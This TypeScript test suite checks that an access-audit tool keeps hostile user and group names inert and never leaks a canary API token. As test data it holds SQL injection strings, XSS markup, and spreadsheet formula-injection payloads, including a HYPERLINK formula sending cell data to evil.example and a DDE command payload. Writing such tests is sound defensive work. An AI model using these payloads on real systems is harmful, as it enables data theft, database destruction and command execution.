/**
 * Attackers and secrets, through whole runs:
 * - hostile names (SQL, spreadsheet formulas, HTML) from the workspace reach SQL only as
 *   parameters (they round-trip intact, every table survives), the workbook only as text
 *   (no formula), the email and the download page only escaped;
 * - a distinctive API token never reaches stdout/stderr (logs at debug level included),
 *   an error, the database (every table of schema audit), a report (every part of every
 *   .xlsx) or an email (every .eml, every message the SMTP server received), whether the
 *   run succeeds, fails at the API, is refused the token, or cannot send its email.
 * The download site's own auth, timing-safe comparison and path handling are in test/web.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inspect } from 'node:util';
import { sql } from 'kysely';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startDownloadSite } from '../../src/commands/serve.js';
import type { RunResult } from '../../src/pipeline/run-audit.js';
import { escapeHtml } from '../../src/text/html.js';
import { runCli } from '../helpers/cli.js';
import { openTestDatabase, type TestDatabase } from '../helpers/database.js';
import { readWorkbook, sheetXml } from '../report/xlsx-helpers.js';
import {
  audit,
  configOf,
  DAY,
  dumpAllTables,
  listFiles,
  type MailCatcher,
  quietLogger,
  runEnv,
  startMailCatcher,
  startWorkspace,
  unzipText,
  type Workspace,
} from './helpers.js';

const TOKEN = 'sgp_CANARY-7f3a9c1e-TOKEN-d41d8cd98f00b204e9800998ecf8427e';
const WRONG_TOKEN = 'sgp_CANARY-WRONG-0b1c2d3e-TOKEN-ffffffffffffffffffffffffffff';
const HOSTILE_WORKSPACE = '<script>alert("ws")</script> & <img src=x onerror=alert(1)> "Ltd"';

const SQL_NAMES = [
  "'); DROP TABLE audit.snapshots; --",
  "Robert'); DELETE FROM audit.user_history WHERE ('1'='1",
  "$1 $$ ; $$ \\x00 E'\\\\' %_ ` \" ;",
];
const FORMULAS = [
  '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '-2+3',
];
const HTML_NAME = '<b onmouseover="alert(2)">Bold</b> &amp; <script>x()</script>';

let t: TestDatabase;
let ws: Workspace;
let mail: MailCatcher;
let dir: string;
let day = 0;
const BASE = Date.UTC(2026, 7, 3, 6);
/** Everything any run printed, logged or threw, to search for the token at the end. */
const printed: string[] = [];

beforeAll(async () => {
  [t, ws, mail] = await Promise.all([
    openTestDatabase(),
    startWorkspace({ seed: 17, users: 10, groups: 2, invites: 2, token: TOKEN }),
    startMailCatcher(),
  ]);
  dir = await mkdtemp(join(tmpdir(), 'access-audit-security-'));
});

afterAll(async () => {
  await Promise.all([t?.close(), ws?.sim.close(), mail?.close()]);
  await rm(dir, { recursive: true, force: true });
});

const reportsDir = () => join(dir, 'reports');
const env = (extra: Record<string, string> = {}) =>
  runEnv(t, ws.sim, {
    reportsDir: reportsDir(),
    smtpPort: mail.port,
    auditNow: new Date(BASE + day++ * DAY),
    extra: { LOG_LEVEL: 'debug', ...extra },
  });

/** In-process run with a debug logger whose lines are kept for the search. */
async function inProcess(e: Record<string, string>, deps: Parameters<typeof audit>[2] = {}) {
  const lines: string[] = [];
  const logger = quietLogger(lines);
  logger.level = 'debug';
  const r = await audit(await t.use(), e, { logger, ...deps });
  printed.push(...lines);
  if (r instanceof Error)
    printed.push(r.message, inspect(r, { depth: 8 }), JSON.stringify(r), String(r.stack));
  return r;
}

/** The test database's Kysely, opened again first if a command had it released. */
const db = async () => (await t.use()).db;

/**
 * CLI run as a process (released database in embedded mode): whatever reaches its real
 * stdout and stderr, even past the injected outputs, is kept for the search.
 */
async function cli(args: string[], e: Record<string, string>) {
  // Opened again only when the test next looks (t.use()).
  if (t.mode === 'embedded') await t.release();
  const r = await runCli(args, e);
  printed.push(r.stdout, r.stderr);
  return r;
}

/** The workspace name as an attacker with the API in their hands would set it. */
const renamingFetch: typeof fetch = async (input, init) => {
  const response = await fetch(input, init);
  const url = new URL(String(input));
  if (url.pathname !== '/' || !response.ok) return response;
  const body = (await response.json()) as { data: { workspace: { name: string } } };
  body.data.workspace.name = HOSTILE_WORKSPACE;
  return new Response(JSON.stringify(body), { status: response.status, headers: response.headers });
};

function decodeXml(text: string): string {
  return text.replace(/&(lt|gt|quot|apos|amp|#\d+|#x[0-9a-fA-F]+);/g, (_m, e: string) => {
    const named: Record<string, string> = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' };
    if (e in named) return named[e]!;
    return String.fromCodePoint(e.startsWith('#x') ? Number.parseInt(e.slice(2), 16) : Number(e.slice(1)));
  });
}

describe('hostile names', () => {
  let run: RunResult;
  let tablesBefore: string[];

  beforeAll(async () => {
    const first = await inProcess(env(), { fetch: renamingFetch });
    if (first instanceof Error) throw first;
    tablesBefore = Object.keys(await dumpAllTables(await db()));

    const role = ws.sim.truth().roles.find((r) => r.name === 'Source Admin')!;
    const names = [...SQL_NAMES, ...FORMULAS, HTML_NAME];
    const invites = names.map((_n, i) => ({
      email: `hostile.${i}@example.org`,
      permissions: [
        { roleId: role.id, resources: [{ id: SQL_NAMES[i % SQL_NAMES.length]!, type: 'SOURCE' }] },
      ],
    }));
    await ws.admin.createInvites(invites);
    for (const [i, name] of names.entries()) await ws.admin.acceptInvite(`hostile.${i}@example.org`, name);
    for (const name of names) {
      const g = await ws.admin.createGroup(name);
      await ws.admin.addGroupPermissions(g.id, [
        { roleId: role.id, resources: [{ id: name, type: 'SOURCE' }] },
      ]);
      await ws.admin.addGroupMembers(g.id, ['hostile.0@example.org']);
    }
    await ws.admin.createInvites([{ email: "o'hara'--@example.org" }]);
    const second = await inProcess(env(), { fetch: renamingFetch });
    if (second instanceof Error) throw second;
    run = second;
  });

  it('reach SQL only as parameters: they round-trip intact and every table survives', async () => {
    expect(run.changes.user_added).toBe(SQL_NAMES.length + FORMULAS.length + 1);
    expect(Object.keys(await dumpAllTables(await db()))).toEqual(tablesBefore);
    const names = [...SQL_NAMES, ...FORMULAS, HTML_NAME];
    const users = await sql<{ name: string }>`
      SELECT name FROM audit.user_history WHERE email LIKE 'hostile.%' AND valid_to IS NULL`.execute(
      await db(),
    );
    expect(users.rows.map((u) => u.name).sort()).toEqual([...names].sort());
    const groups = await sql<{ name: string }>`
      SELECT name FROM audit.group_history WHERE valid_to IS NULL`.execute(await db());
    for (const name of names) expect(groups.rows.map((g) => g.name)).toContain(name);
    const grants = await sql<{ resource_id: string }>`
      SELECT DISTINCT resource_id FROM audit.grant_history`.execute(await db());
    for (const name of names) expect(grants.rows.map((g) => g.resource_id)).toContain(name);
    const invites = await sql<{ email: string }>`
      SELECT email FROM audit.invite_history WHERE email LIKE 'o''hara%'`.execute(await db());
    expect(invites.rows).toEqual([{ email: "o'hara'--@example.org" }]);
    const counts = await sql<{ n: number }>`SELECT count(*)::int AS n FROM audit.snapshots`.execute(
      await db(),
    );
    expect(counts.rows[0]!.n).toBe(2);
  });

  it('reach the workbook only as text, never as a formula', async () => {
    // Read from the sheet XML itself, decoding entities once (exceljs's reader decodes
    // `&amp;amp;` twice, so it cannot tell "&amp;" from "&").
    const texts = new Set<string>();
    for (const [sheet, xml] of await sheetXml(run.reportPath)) {
      expect(xml, sheet).not.toMatch(/<f[\s>]/);
      for (const m of xml.matchAll(/<(v|t)(?: [^>]*)?>([^<]*)<\/\1>/g)) texts.add(decodeXml(m[2]!));
    }
    for (const name of [...FORMULAS, ...SQL_NAMES, HTML_NAME, HOSTILE_WORKSPACE])
      expect(texts.has(name), name).toBe(true);
    // And exceljs reads none of them back as a formula.
    const wb = await readWorkbook(run.reportPath);
    for (const sheet of ['Access Review', 'Permission Changes', 'Summary']) {
      wb.getWorksheet(sheet)!.eachRow((row) => {
        row.eachCell((cell) => {
          expect(cell.type, `${sheet} ${cell.address}`).not.toBe(6 /* ExcelJS.ValueType.Formula */);
          expect(cell.formula, `${sheet} ${cell.address}`).toBeFalsy();
        });
      });
    }
  });

  it('reach the email escaped, and its subject stays one line', async () => {
    const raw = mail.messages.at(-1)!.raw;
    const m = await simpleParser(raw);
    expect(m.subject).toContain(HOSTILE_WORKSPACE);
    expect(m.subject).not.toMatch(/[\r\n]/);
    const html = String(m.html);
    expect(html).toContain('&lt;script&gt;alert(&quot;ws&quot;)&lt;/script&gt;');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(m.text).toContain(HOSTILE_WORKSPACE);
  });

  it('reach the download page escaped', async () => {
    const token = 'reports-token-for-the-security-test-0123';
    const config = configOf({ ...env(), REPORTS_TOKEN: token });
    const site = await startDownloadSite(await t.use(), config, quietLogger(), 0);
    try {
      const url = site.url;
      const r = await fetch(`${url}/`, { headers: { authorization: `Bearer ${token}` } });
      expect(r.status).toBe(200);
      const html = await r.text();
      // The page names the workspace, escaped: its text shows, nothing hostile gets in.
      expect(html).not.toContain('<script');
      expect(html).not.toMatch(/<[^>]*onerror/); // no element carries the handler
      expect(html).not.toContain('<img');
      expect(html).toContain(`Workspace: <strong>${escapeHtml(HOSTILE_WORKSPACE)}</strong>`);
      expect(html).toContain(run.reportPath.split('/').at(-1));
    } finally {
      await site.close();
    }
  });
});

describe('the token never leaks', () => {
  it('through successful, failing, refused and undelivered runs and the other commands', {
    timeout: 120_000,
  }, async () => {
    // A successful run through the CLI, logging at debug level.
    await ws.admin.createInvites([{ email: 'after.hostile@example.org' }]);
    const ok = await cli(['run'], env());
    expect(ok.code, ok.stderr).toBe(0);
    // The API fails mid-walk (retries exhausted; a malformed body).
    ws.sim.inject({ route: 'GET /groups', kind: 'status', status: 503, times: 3 });
    expect(
      await inProcess(env(), { crawl: { retries: 2, client: { minRetryDelayMs: 1, maxRetryDelayMs: 2 } } }),
    ).toBeInstanceOf(Error);
    ws.sim.inject({ route: 'GET /users', kind: 'malformed' });
    expect(await inProcess(env())).toBeInstanceOf(Error);
    // A wrong token (also distinctive): refused, and not printed either.
    const refused = await cli(['run'], env({ SEGMENT_API_TOKEN: WRONG_TOKEN }));
    expect(refused.code, refused.stderr).toBe(1);
    expect(refused.stderr).toMatch(/^error: GET \/: the Segment API rejected the token \(401\)/m);
    // The email cannot be sent (and is sent by the next run, to the outbox this time).
    await ws.admin.createInvites([{ email: 'one.more@example.org' }]);
    const undelivered = await inProcess(env({ SMTP_URL: 'smtp://127.0.0.1:1' }), {
      mailRetry: { retries: 0, minTimeoutMs: 1, maxTimeoutMs: 1, maxRetryTimeMs: 100 },
    });
    expect(undelivered instanceof Error ? undelivered : undelivered.email.status).toBe('failed');
    const outboxEnv = env();
    delete outboxEnv.SMTP_URL;
    const recovered = await cli(['run'], outboxEnv);
    expect(recovered.code, recovered.stderr).toBe(0);
    // A report rebuilt from history by the `report` command.
    expect((await cli(['report', '--snapshot', '1', '--out', join(dir, 'rebuilt.xlsx')], env())).code).toBe(
      0,
    );

    // Now search everything.
    const forms = [TOKEN, WRONG_TOKEN].flatMap((s) => [
      s,
      encodeURIComponent(s),
      Buffer.from(s).toString('base64'),
      Buffer.from(`:${s}`).toString('base64'),
      s.slice(5, 30), // a distinctive part
    ]);
    const places: [string, string][] = printed.map((p, i) => [`output ${i}`, p]);
    for (const [table, rows] of Object.entries(await dumpAllTables(await db())))
      places.push([`table ${table}`, rows]);
    const files = await listFiles(dir);
    const workbooks = files.filter((f) => f.endsWith('.xlsx'));
    const emails = files.filter((f) => f.endsWith('.eml'));
    expect(workbooks.length).toBeGreaterThanOrEqual(4);
    expect(emails.length).toBeGreaterThanOrEqual(1);
    for (const f of workbooks) places.push([f, await unzipText(f)]);
    for (const f of files.filter((f) => !f.endsWith('.xlsx'))) places.push([f, await readFile(f, 'utf8')]);
    for (const m of mail.messages) {
      places.push([`smtp ${m.messageId}`, m.raw.toString('utf8')]);
      const parsed = await simpleParser(m.raw);
      places.push([`smtp ${m.messageId} decoded`, `${parsed.text}\n${parsed.html}`]);
    }
    for (const f of emails) {
      const parsed = await simpleParser(await readFile(f));
      places.push([`${f} decoded`, `${parsed.text}\n${parsed.html}`]);
    }
    expect(places.length).toBeGreaterThan(20);
    const leaks = places.flatMap(([where, text]) => forms.filter((f) => text.includes(f)).map(() => where));
    expect(leaks).toEqual([]);
    // The search would have found it: the token was used on every request.
    expect(ws.sim.stats.requests).toBeGreaterThan(0);
  });
});
